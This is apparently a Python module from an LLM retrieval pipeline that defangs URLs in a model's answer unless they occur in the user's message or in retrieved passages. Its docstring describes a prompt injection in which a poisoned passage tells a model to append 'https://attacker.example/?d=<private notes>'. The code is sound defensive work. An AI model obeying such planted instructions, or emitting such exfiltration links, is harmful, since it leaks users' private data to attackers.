"""No exfiltration channel in answers (invariant 9): a URL in a model's answer stays a link
only if it occurs in what this turn retrieved or in the person's own message; any other is
defanged (`hxxps://attacker[.]example/...`), so no client renders, previews or fetches it.

A poisoned passage can tell a model to append `https://attacker.example/?d=<private
notes>`; the person never asked for that address and no source holds it, so it is shown
inert and counted as an incident. Previews of a streaming answer, checked before the turn
is over, defang every URL (`defang_all`).
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence

from graphs.llm.types import ChatMessage

__all__ = ["defang_all", "defang_untrusted", "turn_texts"]

URL = re.compile(r"\b(?:https?|ftp)://[^\s<>\"'`)\]]+", re.IGNORECASE)
_TRAILING = ".,;:!?"
INERT_SCHEMES = {"http": "hxxp", "https": "hxxps", "ftp": "fxp"}


def _clean(url: str) -> str:
    return url.rstrip(_TRAILING)


def _defang(url: str) -> str:
    scheme, _, rest = url.partition("://")
    host, slash, path = rest.partition("/")
    inert = INERT_SCHEMES[scheme.lower()]
    return f"{inert}://{host.replace('.', '[.]')}{slash}{path}"


def _replace(text: str, keep: set[str] | None) -> tuple[str, int]:
    defanged = 0

    def swap(match: re.Match[str]) -> str:
        nonlocal defanged
        url = _clean(match.group(0))
        tail = match.group(0)[len(url) :]
        if keep is not None and url in keep:
            return match.group(0)
        defanged += 1
        return _defang(url) + tail

    return URL.sub(swap, text), defanged


def defang_untrusted(answer: str, trusted: Iterable[str]) -> tuple[str, int]:
    """The answer with every URL that occurs in none of `trusted` defanged, and how many."""
    allowed = {_clean(match.group(0)) for text in trusted for match in URL.finditer(text)}
    return _replace(answer, allowed)


def defang_all(text: str) -> str:
    """Every URL in `text` made inert (for previews of an answer not yet verified)."""
    return _replace(text, None)[0]


def turn_texts(messages: Sequence[ChatMessage], question: str) -> list[str]:
    """What this turn may quote addresses from: the person's message and the tool results
    since it (the retrieved passages)."""
    starts = [index for index, message in enumerate(messages) if message.role == "user"]
    current = messages[starts[-1] :] if starts else messages
    return [question, *(message.content for message in current if message.role == "tool")]
